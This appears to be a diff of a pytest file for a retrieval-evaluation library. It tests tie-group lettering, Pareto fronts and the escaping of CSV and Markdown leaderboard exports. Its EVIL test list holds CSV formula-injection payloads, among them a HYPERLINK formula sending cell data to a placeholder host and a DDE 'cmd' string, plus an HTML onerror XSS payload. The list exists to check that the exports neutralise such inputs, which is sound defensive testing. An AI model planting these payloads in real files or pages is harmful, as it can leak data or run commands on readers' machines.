@@ -1,22 +1,52 @@
-"""Tables of systems by columns, what is marked in them, and how they are written."""
+"""Tables of systems by columns, ties, the front; names that others chose run no formula and are text in Markdown."""
 
 import csv
 import io
+import re
+from dataclasses import replace
 from functools import partial
+from html.parser import HTMLParser
+from itertools import chain, combinations
 
 import numpy as np
 import pyarrow as pa
 import pytest
+from hypothesis import example, given
+from hypothesis import strategies as st
 
 from midmask.errors import UserError
+from midmask.evaluation.escaping import csv_cell, markdown_text
 from midmask.evaluation.groups import FORUMS, folders, group_average
-from midmask.evaluation.rendering import Style, as_csv, as_latex, as_markdown, caption, comparisons_csv
-from midmask.evaluation.statistics.significance import compare
-from midmask.evaluation.tables import ComparisonProtocol, ResultTable, TableCell, by_measure, tabulate
-from tests.support.evaluation.columns import average_columns, by_corpus, by_slice
+from midmask.evaluation.pareto import on_front
+from midmask.evaluation.rendering import Style, as_csv, as_markdown, comparisons_csv
+from midmask.evaluation.statistics.significance import Comparison, compare
+from midmask.evaluation.tables import (
+    ComparisonProtocol,
+    PerQuery,
+    ResultTable,
+    TableCell,
+    TableColumn,
+    by_measure,
+    tabulate,
+)
+from midmask.evaluation.ties import label, letters, tie_groups
+from midmask.leaderboard import export
+from midmask.leaderboard.board import Board, View, board_of
+from midmask.leaderboard.entries import entries
+from midmask.leaderboard.marks import Marks
+from midmask.leaderboard.rows import place_names, rows
+from tests.support.dashboards import compared
 from tests.support.evaluation.per_query import drawn, table
 
 SHIFTS = {"bm25": 0.0, "dense": 0.4, "sparse": 0.41}
+
+
+def by_corpus(corpora: dict[str, PerQuery]) -> list[TableColumn]:
+    return [TableColumn(name, "RR@10", per_query) for name, per_query in corpora.items()]
+
+
+def average_columns(means: dict[str, float]) -> float:
+    return sum(means.values()) / len(means)
 
 
 def both_measures(seed: int, shift: float) -> pa.Table:
@@ -69,18 +99,9 @@ def test_against_a_baseline_there_are_no_tie_groups_and_fewer_tests(systems):
     assert {cell.ties for cell in found.values()} == {""}
 
 
-def test_slices_are_columns_of_their_queries(systems):
-    slices = {"head": [f"q{row}" for row in range(10)], "rest": [f"q{row}" for row in range(10, 40)]}
-    shown = tabulate(by_slice(systems, "RR@10", slices))
-    assert shown.columns == ("head", "rest")
-    assert shown.cells["dense", "head"].mean == pytest.approx(mean(1, 0.4, count=10))
-    assert (shown.cells["dense", "head"].queries, shown.cells["dense", "rest"].queries) == (10, 30)
-    assert shown.comparisons["head"][0].queries == 10
-
-
 def test_a_system_that_a_corpus_lacks_is_not_averaged(systems):
     corpora = {"one": systems, "two": {name: systems[name] for name in ("dense", "sparse")}}
-    shown = tabulate(by_corpus(corpora, "RR@10"), averages={"average": average_columns})
+    shown = tabulate(by_corpus(corpora), averages={"average": average_columns})
     assert shown.columns == ("one", "two", "average") and ("bm25", "two") not in shown.cells
     assert ("bm25", "average") not in shown.cells
     assert shown.cells["dense", "average"].mean == pytest.approx(mean(1, 0.4))
@@ -90,19 +111,12 @@ def test_a_system_that_a_corpus_lacks_is_not_averaged(systems):
     assert [name for name in ("dense", "sparse") if shown.cells[name, "average"].best] == [best]
 
 
-def test_the_average_weighs_corpora_not_queries():
-    corpora = {"small": {"a": table([1.0, 1.0])}, "large": {"a": table([0.0] * 38)}}
-    shown = tabulate(by_corpus(corpora, "RR@10"), averages={"average": average_columns})
-    assert shown.cells["a", "average"].mean == 0.5
-
-
 def test_a_group_of_sets_is_averaged_by_its_own_rule():
     """CQADupStack's twelve forums are one set of BEIR's fourteen."""
     corpora = {folder: {"a": table([float(folder in FORUMS)] * 2)} for folder in folders("beir14")}
-    rules = {"BEIR-14": partial(group_average, "beir14"), "plain": average_columns}
-    shown = tabulate(by_corpus(corpora, "RR@10"), averages=rules)
+    rules = {"BEIR-14": partial(group_average, "beir14")}
+    shown = tabulate(by_corpus(corpora), averages=rules)
     assert shown.cells["a", "BEIR-14"].mean == pytest.approx(1 / 14)
-    assert shown.cells["a", "plain"].mean == pytest.approx(12 / 25)
 
 
 def test_seeds_are_averaged_and_their_spread_is_kept():
@@ -127,7 +141,7 @@ def test_columns_need_labels_of_their_own(systems):
     with pytest.raises(UserError, match=r"given twice: R@100$"):
         tabulate(by_measure(systems, ["R@100"]), averages={"R@100": average_columns})
     with pytest.raises(UserError, match="unknown baseline 'bm25'"):
-        tabulate(by_corpus({"two": {"dense": systems["dense"]}}, "RR@10"), ComparisonProtocol(baseline="bm25"))
+        tabulate(by_corpus({"two": {"dense": systems["dense"]}}), ComparisonProtocol(baseline="bm25"))
 
 
 CELLS = {
@@ -144,10 +158,10 @@ def shown(**protocol) -> ResultTable:
 
 
 @pytest.fixture(scope="module")
-def compared() -> ResultTable:
+def two_corpora() -> ResultTable:
     systems = {name: table(drawn(seed, shift=shift)) for seed, (name, shift) in enumerate([("x", 0), ("y", 0.5)])}
     return tabulate(
-        by_corpus({"one": systems, "two": {**systems, "z": table(drawn(5))}}, "RR@10"),
+        by_corpus({"one": systems, "two": {**systems, "z": table(drawn(5))}}),
         averages={"mean": average_columns},
     )
 
@@ -163,27 +177,6 @@ def test_markdown_has_the_best_bold_and_names_who_is_beaten():
     ]
 
 
-def test_latex_is_a_booktabs_table_with_names_escaped():
-    lines = as_latex(shown(), Style(percent=True)).splitlines()
-    assert lines[:4] == [r"\begin{table}", lines[1], r"\begin{tabular}{lrr}", r"\toprule"]
-    assert lines[1].startswith(r"\caption{Bold") and lines[1].endswith("}")
-    assert lines[4:9] == [
-        r"system & dev & test \\",
-        r"\midrule",
-        r"a bm25 & 18.40 & \textbf{50.00} \\",
-        r"b A\_b|c & 35.91\textsuperscript{a} & --- \\",
-        r"c C & \textbf{36.00}\textsuperscript{ab} & --- \\",
-    ]
-    assert lines[9:] == [r"\bottomrule", r"\end{tabular}", r"\end{table}"]
-
-
-def test_special_characters_are_escaped_in_latex():
-    name = "a&%$#_{}\\~^b"
-    one = ResultTable((name,), ("dev",), {}, {"dev": ()}, ComparisonProtocol())
-    escaped = r"a\&\%\$\#\_\{\}\textbackslash{}\textasciitilde{}\textasciicircum{}b"
-    assert f"a {escaped} & ---" in as_latex(one)
-
-
 def test_superscripts_may_be_tie_groups_instead():
     rows = as_markdown(shown(), Style(marks="ties", decimals=2)).splitlines()
     assert [row.split("|")[2].strip() for row in (rows[2], rows[4])] == ["0.18<sup>b</sup>", "**0.36**<sup>a</sup>"]
@@ -192,26 +185,208 @@ def test_superscripts_may_be_tie_groups_instead():
         as_markdown(shown(baseline="bm25"), Style(marks="ties"))
 
 
-def test_the_caption_has_how_it_was_tested_and_on_how_many_queries(compared):
-    told = caption(compared)
-    assert all(words in told for words in ("paired t-test, Bonferroni, 1 to 3 comparisons", "0.05", "40 queries"))
-    against = ComparisonProtocol(baseline="x", test="permutation", correction="fdr_bh", correction_alpha=0.01)
-    found = caption(tabulate(by_measure({"x": table(drawn(0)), "y": table(drawn(1))}, ["RR@10"]), against))
-    assert "against x; paired permutation test, Benjamini-Hochberg, 1 comparison" in found and "0.01" in found
-    assert "dev 50, test 43" in caption(shown())
-
-
-def test_csv_keeps_who_is_beaten_and_every_test(compared):
-    cells = {(row["system"], row["column"]): row for row in csv.DictReader(io.StringIO(as_csv(compared)))}
+def test_csv_keeps_who_is_beaten_and_every_test(two_corpora):
+    cells = {(row["system"], row["column"]): row for row in csv.DictReader(io.StringIO(as_csv(two_corpora)))}
     assert cells["y", "two"]["better_than"] == "x;z" and cells["y", "two"]["best"] == "True"
     assert cells["x", "two"]["ties"] == "b" and cells["x", "one"]["queries"] == "40"
-    tests = list(csv.DictReader(io.StringIO(comparisons_csv(compared))))
+    tests = list(csv.DictReader(io.StringIO(comparisons_csv(two_corpora))))
     assert [(row["column"], row["system"], row["baseline"]) for row in tests] == [
         ("one", "y", "x"),
         ("two", "y", "x"),
         ("two", "z", "x"),
         ("two", "z", "y"),
     ]
-    for row, found in zip(tests, [*compared.comparisons["one"], *compared.comparisons["two"]], strict=True):
+    for row, found in zip(tests, [*two_corpora.comparisons["one"], *two_corpora.comparisons["two"]], strict=True):
         for name in ("p", "p_corrected", "low", "high", "effect", "detectable"):
             assert float(row[name]) == getattr(found, name)
+
+
+def row(system: str, baseline: str, means: dict[str, float], significant: bool, measure: str = "RR@10") -> Comparison:
+    own, base = means[system], means[baseline]
+    numbers = {"difference": own - base, "low": 0.0, "high": 0.0, "p": 0.5, "p_corrected": 0.5, "effect": 0.0}
+    return Comparison(system, baseline, measure, 10, 1, own, base, detectable=0.0, significant=significant, **numbers)
+
+
+@st.composite
+def families(draw: st.DrawFn) -> tuple[dict[str, float], set[frozenset[str]], list[Comparison]]:
+    """Systems with means, the pairs that differ (any, however odd), and their comparisons in any order."""
+    names = "ABCDEFG"[: draw(st.integers(2, 7))]
+    means = {name: draw(st.sampled_from([0.1, 0.2, 0.3])) for name in names}
+    pairs = list(combinations(names, 2))
+    apart = {frozenset(pair) for pair in pairs if draw(st.booleans())}
+    rows = [row(*draw(st.permutations(pair)), means, frozenset(pair) in apart) for pair in draw(st.permutations(pairs))]
+    return means, apart, rows
+
+
+@given(families())
+def test_groups_are_all_largest_sets_without_a_significant_pair(family):
+    means, apart, rows = family
+    subsets = map(frozenset, chain.from_iterable(combinations(means, size) for size in range(1, len(means) + 1)))
+    tied = [one for one in subsets if not any(frozenset(pair) in apart for pair in combinations(one, 2))]
+    largest = {one for one in tied if not any(one < other for other in tied)}
+    groups = tie_groups(rows)
+    assert {frozenset(group) for group in groups} == largest and len(groups) == len(largest)
+
+
+@given(families())
+def test_two_systems_share_a_letter_exactly_when_they_do_not_differ(family):
+    means, apart, rows = family
+    shown = letters(tie_groups(rows))
+    assert shown.keys() == means.keys()
+    for pair in combinations(means, 2):
+        assert bool(set(shown[pair[0]]) & set(shown[pair[1]])) == (frozenset(pair) not in apart)
+
+
+@given(families())
+def test_the_best_system_is_an_a_and_groups_stand_by_their_best_members(family):
+    means, _, rows = family
+    groups = tie_groups(rows)
+    assert means[groups[0][0]] == max(means.values()) and letters(groups)[groups[0][0]].startswith("a")
+    for group in groups:
+        assert [means[name] for name in group] == sorted((means[name] for name in group), reverse=True)
+    best = [means[group[0]] for group in groups]
+    assert best == sorted(best, reverse=True)
+
+
+def test_a_chain_of_three_is_two_groups():
+    """The ends differ, the middle from neither: a, ab, b."""
+    means = {"low": 0.1, "middle": 0.2, "high": 0.3}
+    rows = [row("middle", "low", means, False), row("high", "low", means, True), row("high", "middle", means, False)]
+    assert tie_groups(rows) == [("high", "middle"), ("middle", "low")]
+    assert letters(tie_groups(rows)) == {"high": "a", "middle": "ab", "low": "b"}
+
+
+def test_not_all_pairs_is_a_bug():
+    systems = {name: table(drawn(seed)) for seed, name in enumerate("xyz")}
+    pairs = compare(systems, measure="RR@10")
+    for given_rows in (compare(systems, measure="RR@10", baseline="x"), [*pairs, pairs[0]], pairs[1:]):
+        with pytest.raises(ValueError, match="every pair of systems compared once"):
+            tie_groups(given_rows)
+    means = dict.fromkeys("xyz", 0.0)
+    mixed = [row("x", "y", means, True), row("y", "z", means, True), row("x", "z", means, True, measure="AP")]
+    with pytest.raises(ValueError, match="on one measure"):
+        tie_groups(mixed)
+
+
+def test_letters_after_z_are_numbered():
+    assert [label(number) for number in (0, 25, 26, 53)] == ["a", "z", "a1", "b2"]
+
+
+VALUES = st.lists(st.tuples(st.integers(0, 5), st.integers(0, 5), st.integers(0, 2)), max_size=14)
+
+
+def dominates(one, other, modes) -> bool:
+    gains = [(a - b) if mode == "max" else (b - a) for a, b, mode in zip(one, other, modes, strict=True)]
+    return min(gains) >= 0 and max(gains) > 0
+
+
+@given(VALUES, st.tuples(*[st.sampled_from(["max", "min"])] * 3))
+def test_the_front_is_what_nothing_dominates(values, modes):
+    brute = [not any(dominates(other, own, modes) for other in values) for own in values]
+    assert on_front(values, modes) == brute
+
+
+def test_with_one_value_the_front_is_the_best_and_its_equals():
+    assert on_front([[3.0], [5.0], [5.0]], ["max"]) == [False, True, True]
+    assert on_front([[3.0], [5.0], [5.0]], ["min"]) == [True, False, False]
+
+
+EVIL = [
+    *('=HYPERLINK("http://host/?"&A1)', "@SUM(1)", "+1+cmd|A0", "-2+3", "\t=1", "\r=1", "\n=1", "x;=1+1", "two\nlines"),
+    *('<img src=x onerror="alert(1)">', "a|b", "**bold** _soft_ `code`", "[link](http://host)", "$x$", "\\|"),
+]
+
+
+def board(name: str) -> Board:
+    """The board of the benchmark, in which everything that a user names has this name."""
+    changed = {"midmask.recipe": name, "midmask.protocol": name, "midmask.backbone": f"{name}2"}
+    runs = [replace(run, run_id=f"{name}{run.run_id}", tags=run.tags | changed) for run in compared.tracked_rows()[:1]]
+    found = rows([*runs, *compared.tracked_rows()])
+    view = View(place_names(row.place for row in found), ("nDCG@10",), {}, "newest", False, "none", name, False)
+    return board_of(entries(found), view, lambda shown: Marks(text=f"Not compared: {name}."))
+
+
+def test_no_cell_of_a_csv_export_is_a_formula() -> None:
+    """Also where a spreadsheet divides cells at semicolons, as in countries that write decimals with a comma."""
+    for name in EVIL:
+        shown = board(name)
+        text = export.as_csv(shown)
+        for delimiter in (",", ";"):
+            cells = [cell for line in csv.reader(io.StringIO(text), delimiter=delimiter) for cell in line]
+            assert not [cell for cell in cells if is_formula(cell)], name
+        plain = " ".join(re.split("[\r\n]+", name))
+        assert plain in {cell.replace("'", "") for line in csv.reader(io.StringIO(text)) for cell in line}, "all there"
+        numbers = [float(line["squad dev nDCG@10"]) for line in csv.DictReader(io.StringIO(text))]
+        assert sorted(numbers) == sorted(line.cells["squad dev nDCG@10"].sorts_by for line in shown.lines)
+
+
+def is_formula(cell: str) -> bool:
+    try:
+        float(cell)
+    except ValueError:
+        return cell.lstrip()[:1] in {"=", "@", "+", "-"} or cell[:1] in {"\t", "\r", "\n"}
+    return False
+
+
+class Tags(HTMLParser):
+    def __init__(self) -> None:
+        super().__init__(convert_charrefs=True)
+        self.tags: list[str] = []
+        self.text = ""
+
+    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
+        self.tags.append(tag)
+
+    def handle_data(self, data: str) -> None:
+        self.text += data
+
+
+def tags_of(text: str) -> set[str]:
+    parsed = Tags()
+    parsed.feed(text)
+    return set(parsed.tags)
+
+
+def test_a_markdown_export_keeps_its_cells_and_no_html() -> None:
+    for name in EVIL:
+        shown = board(name)
+        lines = export.as_markdown(shown).splitlines()
+        counts = {len(re.split(r"(?<!\\)(?:\\\\)*\|", line)) for line in lines[: 2 + len(shown.lines)]}
+        assert counts == {4 + len(shown.fields) + len(shown.columns)}, name
+        assert len(lines) == 2 + len(shown.lines) + 2, "the table, a blank line, the legend"
+        assert tags_of("\n".join(lines)) <= {"sup"}
+        assert not re.search(r"(?<!\\)\[", "\n".join(lines)), "no link, no image"
+
+
+def test_tables_of_a_benchmark_escape_likewise() -> None:
+    values = compared.per_query({measure: compared.values("none", 0, measure) for measure in compared.MEASURES})
+    made = tabulate(by_measure(dict.fromkeys(EVIL, values), compared.MEASURES))
+    cells = [cell for line in csv.reader(io.StringIO(as_csv(made))) for cell in line]
+    assert not [cell for cell in cells if is_formula(cell)]
+    assert tags_of(as_markdown(made)) <= {"sup"}
+
+
+@given(st.text())
+@example("-5")
+@example("+5e3")
+@example("1,204")
+@example("-1+1")
+@example("0;-5;=1")
+@example("-5;0")
+def test_only_what_a_spreadsheet_would_run_is_changed(text: str) -> None:
+    cell = str(csv_cell(text))
+    assert not any(is_formula(part.replace(",", "")) for part in [cell, *cell.split(";")])
+    if not re.search("(^|;)\\s*[-+=@]|(^|;)\t", text) and not re.search("[\r\n]", text):
+        assert cell == text
+    assert csv_cell(-0.5) == -0.5 and csv_cell(None) is None
+
+
+@given(st.text())
+def test_markdown_shows_the_text(text: str) -> None:
+    """Backslashes and entities taken back, as CommonMark does, the text is there again, in one line."""
+    shown = markdown_text(text)
+    assert len(shown.splitlines()) <= 1 and not re.search("[<>]", shown)
+    plain = Tags()
+    plain.feed(re.sub(r"\\([!-/:-@\[-`{-~])", r"\1", shown.replace("&amp;", "&amp;amp;")))
+    plain.close()
+    assert plain.text.replace("&amp;", "&") == " ".join(text.splitlines())
